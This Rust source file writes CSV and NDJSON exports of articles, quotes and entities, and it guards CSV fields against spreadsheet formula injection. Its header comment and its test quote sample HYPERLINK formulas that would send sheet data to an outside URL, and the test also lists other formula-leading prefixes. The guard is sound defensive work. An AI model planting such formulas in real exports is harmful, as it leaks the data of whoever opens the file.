//! The one CSV and NDJSON writer of every export, over HTTP and from the command
//! line: each list's rows, their CSV columns, and the encoding of a page.
//!
//! CSV is RFC 4180 (CRLF line ends, fields quoted when needed) with one
//! exception, for the spreadsheets journalists open these files in: a field that
//! begins with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`,
//! so that a spreadsheet shows it as text instead of evaluating it as a formula.
//! Titles, bodies and quotes are whatever was imported, and a formula such as
//! `=HYPERLINK("https://…?"&A2, "…")` in one would run, with the sheet's data,
//! on the machine that opens the file. NDJSON keeps every value as stored.

use axum::body::Bytes;
use serde::Serialize;

use crate::api::error::{ApiError, ApiResult};
use crate::model::{Article, Entity, Quote, SpanOut};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    Csv,
    Ndjson,
}

impl Format {
    pub fn media_type(self) -> &'static str {
        match self {
            Format::Csv => "text/csv; charset=utf-8; header=present",
            Format::Ndjson => "application/x-ndjson",
        }
    }

    pub fn extension(self) -> &'static str {
        match self {
            Format::Csv => "csv",
            Format::Ndjson => "ndjson",
        }
    }
}

/// A CSV record being written: fields go through the formula guard.
pub struct Record<'w>(&'w mut csv::Writer<Vec<u8>>);

impl Record<'_> {
    pub fn write<'a>(self, fields: impl IntoIterator<Item = &'a str>) -> csv::Result<()> {
        for field in fields {
            if formula_like(field) {
                self.0.write_field(format!("'{field}"))?;
            } else {
                self.0.write_field(field)?;
            }
        }
        self.0.write_record(None::<&[u8]>)
    }
}

/// Whether a spreadsheet would read `field` as a formula (OWASP's list of
/// leading characters).
fn formula_like(field: &str) -> bool {
    matches!(
        field.as_bytes().first(),
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')
    )
}

/// A row of an export: its JSON line is its list item; its CSV record has the
/// columns of `HEADER`, spans flattened to start, end and text.
pub trait Row: Serialize + Send + 'static {
    const HEADER: &'static [&'static str];
    fn record(&self, r: Record<'_>) -> csv::Result<()>;
}

fn opt(v: &Option<String>) -> &str {
    v.as_deref().unwrap_or("")
}

fn num<T: ToString>(v: Option<T>) -> String {
    v.map(|n| n.to_string()).unwrap_or_default()
}

fn span(s: &Option<SpanOut>) -> [String; 3] {
    match s {
        Some(s) => [s.start.to_string(), s.end.to_string(), s.text.clone()],
        None => Default::default(),
    }
}

impl Row for Article {
    const HEADER: &'static [&'static str] = &[
        "id",
        "title",
        "url",
        "byline",
        "source",
        "dateline",
        "published_at",
        "language",
        "annotator_version",
        "created_at",
        "updated_at",
        "quote_count",
        "entity_count",
        "body",
    ];
    fn record(&self, r: Record<'_>) -> csv::Result<()> {
        r.write([
            self.id.to_string().as_str(),
            opt(&self.title),
            opt(&self.url),
            opt(&self.byline),
            opt(&self.source),
            opt(&self.dateline),
            opt(&self.published_at),
            opt(&self.language),
            opt(&self.annotator_version),
            &self.created_at,
            &self.updated_at,
            &self.quote_count.to_string(),
            &self.entity_count.to_string(),
            &self.body,
        ])
    }
}

impl Row for Quote {
    const HEADER: &'static [&'static str] = &[
        "id",
        "article_id",
        "kind",
        "start",
        "end",
        "text",
        "speaker",
        "speaker_id",
        "speaker_start",
        "speaker_end",
        "speaker_text",
        "cue_start",
        "cue_end",
        "cue_text",
        "role",
        "origin",
        "published_at",
    ];
    fn record(&self, r: Record<'_>) -> csv::Result<()> {
        let [ss, se, st] = span(&self.speaker_mention);
        let [cs, ce, ct] = span(&self.cue);
        r.write([
            self.id.to_string().as_str(),
            &self.article_id.to_string(),
            self.kind.as_str(),
            &self.start.to_string(),
            &self.end.to_string(),
            &self.text,
            opt(&self.speaker),
            &num(self.speaker_id),
            &ss,
            &se,
            &st,
            &cs,
            &ce,
            &ct,
            opt(&self.role),
            self.origin.as_str(),
            opt(&self.published_at),
        ])
    }
}

impl Row for Entity {
    const HEADER: &'static [&'static str] = &["id", "kind", "name", "mention_count"];
    fn record(&self, r: Record<'_>) -> csv::Result<()> {
        r.write([
            self.id.to_string().as_str(),
            self.kind.as_str(),
            &self.name,
            &self.mention_count.to_string(),
        ])
    }
}

/// One page as bytes: NDJSON lines, or CSV records (after the header row when
/// `head`, on the first page).
pub fn encode<T: Row>(format: Format, items: &[T], head: bool) -> ApiResult<Bytes> {
    let failed = |e: &dyn std::fmt::Display| {
        tracing::error!(error = %e, "cannot encode an export");
        ApiError::internal()
    };
    match format {
        Format::Ndjson => {
            let mut out = Vec::with_capacity(items.len() * 256);
            for item in items {
                serde_json::to_writer(&mut out, item).map_err(|e| failed(&e))?;
                out.push(b'\n');
            }
            Ok(Bytes::from(out))
        }
        Format::Csv => {
            let mut w = csv::WriterBuilder::new()
                .terminator(csv::Terminator::CRLF)
                .from_writer(Vec::with_capacity(items.len() * 256));
            if head {
                w.write_record(T::HEADER).map_err(|e| failed(&e))?;
            }
            for item in items {
                item.record(Record(&mut w)).map_err(|e| failed(&e))?;
            }
            let out = w.into_inner().map_err(|e| failed(&e))?;
            Ok(Bytes::from(out))
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::annotate::EntityKind;

    fn entity(name: &str) -> Entity {
        Entity {
            id: 1,
            kind: EntityKind::Person,
            name: name.to_string(),
            mention_count: 2,
            aliases: None,
            article_count: None,
            quote_count: None,
            quoted_about_count: None,
        }
    }

    fn csv_of(names: &[&str]) -> String {
        let items: Vec<Entity> = names.iter().map(|n| entity(n)).collect();
        let bytes = encode(Format::Csv, &items, true).expect("encodes");
        String::from_utf8(bytes.to_vec()).expect("utf-8")
    }

    #[test]
    fn csv_fields_a_spreadsheet_would_evaluate_are_text() {
        assert_eq!(
            csv_of(&[
                "=HYPERLINK(\"http://x/\"&A1)",
                "+1",
                "-2",
                "@SUM(A1)",
                "\tx"
            ]),
            "id,kind,name,mention_count\r\n\
             1,person,\"'=HYPERLINK(\"\"http://x/\"\"&A1)\",2\r\n\
             1,person,'+1,2\r\n1,person,'-2,2\r\n1,person,'@SUM(A1),2\r\n1,person,'\tx,2\r\n"
        );
        // Elsewhere in a field, and in NDJSON, nothing changes.
        assert_eq!(
            csv_of(&["Ana = Ruiz", "O'Brien", ""]),
            "id,kind,name,mention_count\r\n1,person,Ana = Ruiz,2\r\n1,person,O'Brien,2\r\n1,person,,2\r\n"
        );
        let line = encode(Format::Ndjson, &[entity("=1+1")], false).expect("encodes");
        assert!(String::from_utf8_lossy(&line).contains("\"name\":\"=1+1\""));
    }

    #[test]
    fn the_header_row_comes_only_when_asked() {
        let bytes = encode(Format::Csv, &[entity("Ana")], false).expect("encodes");
        assert_eq!(&bytes[..], b"1,person,Ana,2\r\n");
        let empty = encode::<Entity>(Format::Csv, &[], true).expect("encodes");
        assert_eq!(&empty[..], b"id,kind,name,mention_count\r\n");
    }
}
